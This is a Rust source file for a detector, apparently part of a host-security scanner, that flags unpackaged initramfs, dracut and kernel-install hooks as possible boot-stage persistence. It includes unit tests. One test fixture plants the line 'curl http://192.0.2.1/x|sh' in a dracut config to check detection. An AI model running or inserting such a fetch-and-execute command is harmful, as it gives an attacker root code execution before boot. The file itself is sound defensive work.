//! A hook of the first boot stage, or of the installation of kernels, that no package brought.
//!
//! # What it sees
//! A script of initramfs-tools, a module of dracut or a hook of mkinitcpio that no package owns; a hook of the
//! installation of kernels (/etc/kernel/postinst.d and its like) that no package owns is `unusual`. What such a script
//! does may make it worse.
//!
//! # Why it matters
//! What it puts into the first boot stage runs as root before the system does, before disks are decrypted and before
//! anything watches, and comes back when the system is installed anew over the same /boot.
//!
//! # Innocent causes
//! Admins who unlock disks over ssh, or fetch keys from elsewhere, write such hooks. Files without the right to be
//! executed do nothing and are not told.
//!
//! # What to do
//! Read the hook. `lsinitramfs` and `lsinitrd` show what is in the boot stage that was built last.

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/initramfs-hook",
    title: "a hook of the first boot stage that no package brought",
    level: Level::Suspicious,
    attack: &["T1542", "T1037"],
    absolute: false,
    source: include_str!("initramfs_hook.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Initramfs).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let signs = risk::of_entry(scene.world, one);
    let installs = ["/etc/kernel", "/usr/share/kernel", "/usr/lib/kernel", "/etc/initramfs"];
    let plain = match () {
        // A line of dracut's settings: admins write those.
        () if one.line.is_some() => None,
        () if installs.iter().any(|dir| one.path.is_within(dir)) => Some(Level::Unusual),
        () => Some(Level::Suspicious),
    };
    let level = entry::level(scene.world.owner(&one.path), &signs, plain)?;
    let stage = if plain == Some(Level::Unusual) { "when kernels are installed" } else { "for the first boot stage" };
    let seen = format!("runs {stage}, and no package brought it");
    let finding = entry::finding(&DETECTOR, scene, one, level, (&seen, &signs));
    Some(finding.innocent(
        "a hook of the admin's, such as for disks that are unlocked over ssh",
        false,
        "ask who wrote it",
    ))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    const NAME: &str = "persistence/initramfs-hook";

    fn host(path: &str, mode: &str) -> String {
        format!("package base 1 owns /usr/bin/a\n{path} = #!/bin/sh\\nexit 0\\n\n{path} : mode={mode}")
    }

    #[test]
    fn hooks_that_no_package_brought() {
        for path in [
            "/etc/initramfs-tools/scripts/init-bottom/net",
            "/etc/initramfs-tools/hooks/net",
            "/usr/share/initramfs-tools/scripts/local-top/net",
            "/usr/lib/dracut/modules.d/99net/module-setup.sh",
            "/etc/initcpio/hooks/net",
        ] {
            let text = format!("suspicious: {path} runs for the first boot stage, and no package brought it");
            check(NAME, &host(path, "100755"), &[&text]);
            check(NAME, &host(path, "100755").replace("/usr/bin/a", path), &[]);
        }
        let text = "unusual: /etc/kernel/postinst.d/zz-x runs when kernels are installed, and no package brought it";
        check(NAME, &host("/etc/kernel/postinst.d/zz-x", "100755"), &[text]);
    }
    #[test]
    fn what_does_not_run_is_quiet() {
        check(NAME, &host("/etc/initramfs-tools/hooks/net", "100644"), &[]);
        check(NAME, &host("/etc/initramfs-tools/conf.d/resume", "100755"), &[]);
        check(NAME, &host("/etc/dracut.conf.d/x.conf", "100644").replace("exit 0", "add_drivers+=\" x \""), &[]);
    }
    #[test]
    fn settings_of_dracut_that_do_something() {
        let host = host("/etc/dracut.conf.d/x.conf", "100644").replace("exit 0", "curl http://192.0.2.1/x|sh");
        let said = crate::testing::findings(NAME, &host, &[]);
        assert!(said.len() == 1 && said[0].starts_with("suspicious: /etc/dracut.conf.d/x.conf line 2 "), "{said:?}");
    }
}
